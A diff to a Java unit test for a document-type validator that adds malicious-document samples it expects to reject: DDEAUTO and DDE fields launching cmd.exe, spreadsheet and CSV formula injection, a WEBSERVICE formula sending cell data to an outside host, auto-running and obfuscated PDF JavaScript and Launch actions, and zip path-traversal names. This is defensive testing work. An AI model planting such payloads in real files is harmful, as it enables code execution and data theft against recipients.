@@ -10,6 +10,7 @@ import co.cuentasclaras.comun.SolicitudInvalida;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.UncheckedIOException;
+import java.nio.charset.Charset;
 import java.util.Arrays;
 import java.util.LinkedHashMap;
 import java.util.List;
@@ -17,6 +18,7 @@ import java.util.Map;
 import java.util.Random;
 import java.util.stream.Stream;
 import java.util.zip.CRC32;
+import java.util.zip.DeflaterOutputStream;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipOutputStream;
 import org.junit.jupiter.api.DisplayName;
@@ -67,6 +69,41 @@ class TipoArchivoTest {
                                 "word/media/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>".getBytes(UTF_8),
                                 "word/_rels/settings.xml.rels", relacion("attachedTemplate", "file:///C:\\Acta.dotx"),
                                 "word/_rels/document.xml.rels", relacion("hyperlink", "https://entidad.gov.co")))),
+                arguments(
+                        "vinculos.xlsx",
+                        "vinculos.xlsx",
+                        hoja(Map.of(
+                                "xl/worksheets/sheet1.xml",
+                                "<s><f>IF(A1=\"a|b\",Tabla1[Meta|2022],'Hoja|1'!A1)</f><f>[1]Hoja1!A1</f></s>"
+                                        .getBytes(UTF_8),
+                                "xl/externalLinks/_rels/externalLink1.xml.rels",
+                                relacion("externalLinkPath", "file:///C:\\Metas.xlsx"),
+                                "xl/connections.xml",
+                                "<connections><connection refreshOnLoad='0' interval='0'/></connections>"
+                                        .getBytes(UTF_8),
+                                "xl/drawings/vmlDrawing1.vml",
+                                "<xml><br></xml>".getBytes(UTF_8),
+                                "xl/printerSettings/printerSettings1.bin",
+                                new byte[] {1, 0, 2}))),
+                arguments(
+                        "campos.docx",
+                        "campos.docx",
+                        texto(campo("PAGE")
+                                + campo("HYPERLINK \"https://x.co/DDE/DDEAUTO\"")
+                                + campo("INCLUDEPICTURE \"https://entidad.gov.co/escudo.png\""))),
+                arguments(
+                        "video.pptx",
+                        "video.pptx",
+                        presentacion(Map.of(
+                                "ppt/slides/slide1.xml",
+                                "<s><hlinkClick action='ppaction://hlinksldjump'/></s>".getBytes(UTF_8),
+                                "ppt/slides/_rels/slide1.xml.rels",
+                                relacion("video", "https://video.entidad.gov.co/audiencia")))),
+                arguments(
+                        "enlace.pdf",
+                        "enlace.pdf",
+                        pdf(
+                                "<< /OpenAction [3 0 R /Fit] /A << /S /URI /URI (https://x.co/web/JavaScript/Launch) >> >>")),
                 arguments("nota.txt", "nota.txt", "Se entregó el informe.".getBytes(UTF_8)),
                 arguments("lista.csv", "lista.csv", "nombre;voto\nAna;sí\n".getBytes(UTF_8)),
                 arguments("orden.bat.txt", "orden.bat", "del informe".getBytes(UTF_8)));
@@ -116,6 +153,96 @@ class TipoArchivoTest {
                         "documento con relaciones que no se leen",
                         oficina(Map.of("word/_rels/document.xml.rels", "<a".getBytes(UTF_8)))),
                 arguments("documento con objeto", oficina(Map.of("word/embeddings/o.bin", ole("\001Ole10Native")))),
+                arguments(
+                        "documento con objeto de otro programa",
+                        oficina(Map.of(
+                                "word/_rels/document.xml.rels", relacionInterna("oleObject", "embeddings/hoja.dat"),
+                                "word/embeddings/hoja.dat", ole("CONTENTS")))),
+                arguments(
+                        "documento con objeto sin relación",
+                        oficina(Map.of("word/embeddings/oleObject1.bin", ole("CONTENTS")))),
+                arguments("documento con campo DDEAUTO", texto(campo("DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\""))),
+                arguments(
+                        "documento con campo en pedazos",
+                        texto(
+                                "<r><fldChar/></r><r><instrText> DD</instrText></r><r><instrText>EAUTO c:</instrText></r>")),
+                arguments("documento con campo sencillo", texto("<fldSimple instr=' dde cmd a '/>")),
+                arguments("documento con campo INCLUDETEXT", texto(campo("INCLUDETEXT \"https://x.co/a.docx\""))),
+                arguments("documento con imagen de otra máquina", texto(campo("INCLUDEPICTURE \"file://x/a.png\""))),
+                arguments(
+                        "documento con imagen relacionada de otra máquina",
+                        oficina(Map.of("word/_rels/document.xml.rels", relacion("image", "file://x/a.png")))),
+                arguments(
+                        "documento con parte que no se lee", oficina(Map.of("word/footer1.xml", "<a".getBytes(UTF_8)))),
+                arguments("documento viejo con campo", viejoConCampo(UTF_16LE)),
+                arguments("documento viejo con campo de a byte", viejoConCampo(UTF_8)),
+                arguments(
+                        "hoja con DDE",
+                        hoja(Map.of(
+                                "xl/externalLinks/externalLink1.xml",
+                                "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
+                                        .getBytes(UTF_8)))),
+                arguments(
+                        "hoja con macros de antes", hoja(Map.of("xl/macrosheets/sheet2.xml", "<a/>".getBytes(UTF_8)))),
+                arguments(
+                        "hoja con macros de antes en otra parte",
+                        hoja(Map.of(
+                                "xl/_rels/workbook.xml.rels",
+                                relacionInterna("xlMacrosheet", "worksheets/sheet2.xml")))),
+                arguments(
+                        "hoja con vínculo a otra máquina",
+                        hoja(Map.of(
+                                "xl/externalLinks/_rels/externalLink1.xml.rels",
+                                relacion("externalLinkPath", "https://x.co/a.xlsx")))),
+                arguments(
+                        "hoja que se conecta sola",
+                        hoja(Map.of(
+                                "xl/connections.xml",
+                                "<connections><connection refreshOnLoad='1'/></connections>".getBytes(UTF_8)))),
+                arguments(
+                        "hoja con fórmula que arranca algo",
+                        hoja(Map.of("xl/worksheets/sheet1.xml", "<s><f>cmd|'/c calc'!A0</f></s>".getBytes(UTF_8)))),
+                arguments(
+                        "hoja con fórmula que trae",
+                        hoja(Map.of(
+                                "xl/worksheets/sheet1.xml",
+                                "<s><f>_xlfn.WEBSERVICE(\"https://x.co\"&amp;A1)</f></s>".getBytes(UTF_8)))),
+                arguments(
+                        "presentación que arranca algo",
+                        presentacion(Map.of(
+                                "ppt/slides/slide1.xml",
+                                "<s><hlinkClick action='ppaction://program'/></s>".getBytes(UTF_8)))),
+                arguments(
+                        "presentación con enlace a un programa",
+                        presentacion(Map.of(
+                                "ppt/slides/_rels/slide1.xml.rels", relacion("hyperlink", "file:///C:\\cmd.exe")))),
+                arguments(
+                        "OpenDocument que arranca algo",
+                        comprimir(partesDeOdfCon("<a xmlns:p='x'><event-listener p:action='execute'/></a>"))),
+                arguments(
+                        "OpenDocument con DDE",
+                        comprimir(partesDeOdfCon("<a><c formula='of:=DDE(\"soffice\";\"a\";\"b\")'/></a>"))),
+                arguments("CSV con fórmula que arranca algo", "a;b\n=cmd|'/c calc'!A0;1\n".getBytes(UTF_8)),
+                arguments("texto que es una hoja", "ID;PWXL;N;E\nC;X1;Y1;K1\n".getBytes(UTF_8)),
+                arguments("PDF con guion", pdf("<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>")),
+                arguments("PDF con guion disimulado", pdf("<</OpenAction<</S/J#61vaScr#69pt/JS(app.alert(1))>>>>")),
+                arguments("PDF que arranca algo", pdf("<</OpenAction<</S/Launch/F(cmd.exe)>>>>")),
+                arguments("PDF con guion empacado", pdfEmpacado("<</S/JavaScript/JS(app.alert(1))>>", true)),
+                arguments("PDF que no se desempaca", pdfEmpacado("<</S/JavaScript/JS(app.alert(1))>>", false)),
+                arguments("zip con PDF con guion", comprimir(Map.of("a.pdf", pdf("<</S/JavaScript>>")))),
+                arguments("zip con consulta", zip("ventas.iqy")),
+                arguments("zip con hoja de símbolos", zip("ventas.slk")),
+                arguments("zip con orden del explorador", zip("carpeta.scf")),
+                arguments("zip con ajuste", zip("panel.SettingContent-ms")),
+                arguments("zip que se sale", zip("../../x.txt")),
+                arguments("zip que se sale por la otra barra", zip("a\\..\\..\\x.txt")),
+                arguments("zip que va a la raíz", zip("/etc/x.txt")),
+                arguments(
+                        "zip con documento en un XML",
+                        comprimir(Map.of(
+                                "a.xml",
+                                "<?xml version='1.0'?><?mso-application progid='Word.Document'?><a/>"
+                                        .getBytes(UTF_8)))),
                 arguments("documento con programa", oficina(Map.of("word/embeddings/o.bin", programa()))),
                 arguments("documento con página", oficina(Map.of("word/pagina.html", new byte[0]))),
                 arguments(
@@ -242,6 +369,68 @@ class TipoArchivoTest {
         return "<Relationships><Relationship Type='http://x/%s' TargetMode='External' Target='%s'/></Relationships>"
                 .formatted(tipo, destino)
                 .getBytes(UTF_8);
+    }
+
+    private static byte[] relacionInterna(String tipo, String destino) {
+        return "<Relationships><Relationship Type='http://x/%s' Target='%s'/></Relationships>"
+                .formatted(tipo, destino)
+                .getBytes(UTF_8);
+    }
+
+    private static String campo(String orden) {
+        return "<r><fldChar/></r><r><instrText> %s </instrText></r><r><fldChar/></r>".formatted(orden);
+    }
+
+    private static byte[] texto(String parrafo) {
+        return oficina(Map.of(
+                "word/document.xml",
+                "<document><p>%s</p></document>".formatted(parrafo).getBytes(UTF_8)));
+    }
+
+    private static byte[] viejoConCampo(Charset letras) {
+        byte[] documento = ole("WordDocument");
+        byte[] campo = "\u0013 DDEAUTO cmd".getBytes(letras);
+        System.arraycopy(campo, 0, documento, 1536, campo.length);
+        return documento;
+    }
+
+    private static byte[] hoja(Map<String, byte[]> otras) {
+        Map<String, byte[]> partes = partes("[Content_Types].xml", "xl/workbook.xml");
+        partes.putAll(otras);
+        return comprimir(partes);
+    }
+
+    private static byte[] presentacion(Map<String, byte[]> otras) {
+        Map<String, byte[]> partes = partes("[Content_Types].xml", "ppt/presentation.xml");
+        partes.putAll(otras);
+        return comprimir(partes);
+    }
+
+    private static Map<String, byte[]> partesDeOdfCon(String contenido) {
+        Map<String, byte[]> partes = partesDeOdf("styles.xml");
+        partes.put("content.xml", contenido.getBytes(UTF_8));
+        return partes;
+    }
+
+    private static byte[] pdf(String objeto) {
+        return "%%PDF-1.7\n1 0 obj\n%s\nendobj\n".formatted(objeto).getBytes(UTF_8);
+    }
+
+    private static byte[] pdfEmpacado(String objeto, boolean seDesempaca) {
+        ByteArrayOutputStream pdf = new ByteArrayOutputStream();
+        pdf.writeBytes(
+                "%PDF-1.7\n4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\r\n".getBytes(UTF_8));
+        ByteArrayOutputStream datos = new ByteArrayOutputStream();
+        try (DeflaterOutputStream empacador = new DeflaterOutputStream(datos)) {
+            empacador.write(("5 0 " + objeto).getBytes(UTF_8));
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        byte[] empacado = datos.toByteArray();
+        empacado[0] ^= (byte) (seDesempaca ? 0 : 0x5a);
+        pdf.writeBytes(empacado);
+        pdf.writeBytes("\nendstream\nendobj\n".getBytes(UTF_8));
+        return pdf.toByteArray();
     }
 
     private static byte[] oficina(Map<String, byte[]> otras) {
